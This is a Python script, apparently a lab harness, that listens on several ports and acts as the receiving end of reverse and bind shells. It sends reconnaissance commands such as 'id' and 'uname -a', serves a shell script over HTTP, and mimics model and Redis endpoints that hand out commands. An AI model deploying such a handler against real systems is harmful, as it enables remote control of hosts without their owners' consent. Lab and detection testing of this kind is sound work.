"""The far end of shells: gives orders and reads what comes back. Runs on a host of a lab.

Orders: PORT, TLS_PORT (with TLS), and whoever connects to CALL_PORT is called back at BOUND_PORT.
Pages: SCRIPT_PORT, each a shell script. ASK_PORT and ASK_TLS_PORT ask whoever is behind the connection.
For honest work: MODEL_PORT (TLS) is a model that says what to do, REDIS_PORT a queue of commands,
ECHO_PORT an echo.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import sys
import threading
from collections.abc import Callable

PORT, TLS_PORT, SCRIPT_PORT, CALL_PORT, BOUND_PORT = 4001, 4002, 8000, 4003, 4444
MODEL_PORT, REDIS_PORT, ASK_PORT, ASK_TLS_PORT, ECHO_PORT = 4005, 6379, 4006, 4007, 4008
ORDERS = ((b"id\n", b"uid="), (b"uname -a\n", b"Linux"), (b"ls -d /etc\n", b"/etc\n"))
SCRIPT = b"#!/bin/sh\ntrue\nuname -a\n"


def give_orders(connection: socket.socket) -> None:
    """Each after the answer to the one before, then the end."""
    seen = b""
    with contextlib.suppress(OSError), connection:
        for order, answer in ORDERS:
            connection.sendall(order)
            seen = b""
            while answer not in seen.replace(b"\r\n", b"\n"):
                data = connection.recv(4096)
                if not data:
                    return
                seen += data
        connection.sendall(b"exit\n")


def serve_script(connection: socket.socket) -> None:
    """A page."""
    with contextlib.suppress(OSError), connection:
        connection.recv(4096)
        head = b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % len(SCRIPT)
        connection.sendall(head + SCRIPT)


def think(connection: socket.socket) -> None:
    """What to do next, for every line."""
    with contextlib.suppress(OSError), connection:
        while connection.recv(65536):
            connection.sendall(b'{"command": "id; uname -a", "why": "id"}\n')


def queue(connection: socket.socket) -> None:
    """The next command of a list."""
    with contextlib.suppress(OSError), connection:
        while data := connection.recv(4096):
            pop = b"*2\r\n$4\r\nwork\r\n$8\r\nuname -a\r\n"
            connection.sendall(pop if b"BLPOP" in data else b":1\r\n")


def echo(connection: socket.socket) -> None:
    """Everything, and everything again."""
    with contextlib.suppress(OSError), connection:
        while data := connection.recv(4096):
            connection.sendall(data + data)


def ask(connection: socket.socket) -> None:
    """Speak to whatever is behind the connection: pages of an echo."""
    with contextlib.suppress(OSError), connection:
        for size in (40, 90, 170, 60, 250):
            order = b"GET /%s HTTP/1.1\r\n\r\n" % (b"x" * size)
            connection.sendall(order)
            answer = b""
            while len(answer) < 2 * len(order):
                data = connection.recv(4096)
                if not data:
                    return
                answer += data


def call(connection: socket.socket) -> None:
    """Take orders to the shell at the other end."""
    host = connection.getpeername()[0]
    with contextlib.suppress(OSError), connection:
        give_orders(socket.create_connection((host, BOUND_PORT), timeout=10))
        connection.sendall(b"done\n")


def listen(port: int, serve: Callable[[socket.socket], None], context: ssl.SSLContext | None = None) -> None:
    """Serve each connection in a thread of its own."""
    server = socket.create_server(("", port))

    def accept() -> None:
        while True:
            connection, _ = server.accept()
            threading.Thread(target=begin, args=(connection,), daemon=True).start()

    def begin(connection: socket.socket) -> None:
        with contextlib.suppress(OSError):
            serve(context.wrap_socket(connection, server_side=True) if context else connection)

    threading.Thread(target=accept, daemon=True).start()


def main(certificate: str) -> None:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    listen(PORT, give_orders)
    listen(TLS_PORT, give_orders, context)
    listen(MODEL_PORT, think, context)
    listen(REDIS_PORT, queue)
    listen(ECHO_PORT, echo)
    listen(ASK_PORT, ask)
    listen(ASK_TLS_PORT, ask, context)
    listen(SCRIPT_PORT, serve_script)
    listen(CALL_PORT, call)
    print("ready", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main(sys.argv[1])
